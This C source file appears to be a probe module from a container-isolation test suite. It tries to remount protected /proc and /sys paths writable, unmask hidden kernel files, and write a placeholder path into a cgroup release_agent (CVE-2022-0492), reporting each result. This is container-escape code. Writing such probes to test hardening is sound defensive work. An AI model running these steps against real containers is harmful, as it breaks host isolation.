/* Undoing masks and read-only mounts, by the old calls and by the new ones. */
#include "payload.h"
#include <sys/mount.h>

#define OPEN_TREE 428
#define MOVE_MOUNT 429
#define FSCONFIG 431
#define FSPICK 433
#define MOUNT_SETATTR 442
#define TREE_CLONE 1
#define EMPTY_FROM 4
#define CMD_RECONFIGURE 7
#define SET_FLAG 0

struct attributes {
    uint64_t set, clear, propagation, userns;
};

static const char *const MASKED[] = {"/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/acpi", "/sys/firmware"};
static const char *const READ_ONLY[] = {"/proc/sys", "/proc/irq", "/proc/bus", "/proc/sysrq-trigger", "/sys", "/sys/fs/cgroup"};

static void make_writable(const char *path)
{
    tell_result("remount", path, mount("none", path, NULL, MS_REMOUNT | MS_BIND, NULL));
    struct attributes change = {.clear = 1};
    tell_result("mount_setattr", path, syscall(MOUNT_SETATTR, AT_FDCWD, path, 0, &change, sizeof change));
    int context = (int)syscall(FSPICK, AT_FDCWD, path, 0);
    if (context >= 0) {
        syscall(FSCONFIG, context, SET_FLAG, "rw", NULL, 0);
        tell_result("fspick", path, syscall(FSCONFIG, context, CMD_RECONFIGURE, NULL, NULL, 0));
        close(context);
    } else {
        tell_result("fspick", path, -1);
    }
}

static void uncover(const char *path)
{
    tell_result("umount", path, umount2(path, 0));
    tell_result("umount detached", path, umount2(path, MNT_DETACH));
    int tree = (int)syscall(OPEN_TREE, AT_FDCWD, path, TREE_CLONE);
    if (tree < 0) {
        tell_result("open_tree", path, -1);
        return;
    }
    tell_result("open_tree", path, syscall(MOVE_MOUNT, tree, "", AT_FDCWD, "/tmp", EMPTY_FROM));
    close(tree);
}

int remounts(int argc, char **argv)
{
    (void)argc, (void)argv;
    for (size_t i = 0; i < COUNT(READ_ONLY); i++) {
        make_writable(READ_ONLY[i]);
        uncover(READ_ONLY[i]);
    }
    for (size_t i = 0; i < COUNT(MASKED); i++) {
        make_writable(MASKED[i]);
        uncover(MASKED[i]);
    }
    tell_result("mount", "proc", mount("proc", "/tmp", "proc", 0, NULL));
    tell_result("mount", "sysfs", mount("sysfs", "/tmp", "sysfs", 0, NULL));
    tell_result("bind", "/proc", mount("/proc", "/tmp", NULL, MS_BIND | MS_REC, NULL));
    tell_result("move", "/proc/sys", mount("/proc/sys", "/tmp", NULL, MS_MOVE, NULL));
    tell_result("shared", "/", mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL));
    return 0;
}

/* CVE-2022-0492: a user namespace gives the right to mount version 1, whose release_agent the kernel runs outside. */
int release_agent(int argc, char **argv)
{
    (void)argc, (void)argv;
    const struct {
        const char *name;
        int flags;
    } ways[] = {{"as it is", 0}, {"in new namespaces", 0x10000000 | 0x00020000 | 0x02000000}};
    for (size_t i = 0; i < COUNT(ways); i++) {
        pid_t pid = fork();
        if (pid == 0) {
            if (ways[i].flags)
                tell_result("unshare", ways[i].name, syscall(SYS_unshare, ways[i].flags));
            tell_result("mount cgroup", ways[i].name, mount("none", "/tmp", "cgroup", 0, "memory"));
            tell_result("mount cgroup rdma", ways[i].name, mount("none", "/tmp", "cgroup", 0, "rdma"));
            int fd = open("/tmp/release_agent", O_WRONLY);
            tell_result("release_agent", ways[i].name, fd < 0 ? -1 : write(fd, "/evil", 5));
            _exit(0);
        }
        waitpid(pid, NULL, 0);
    }
    return 0;
}

int mount_tmpfs(int argc, char **argv)
{
    for (int i = 0; i < argc; i++)
        tell_result("mount tmpfs", argv[i], mount("marker", argv[i], "tmpfs", 0, NULL));
    return 0;
}
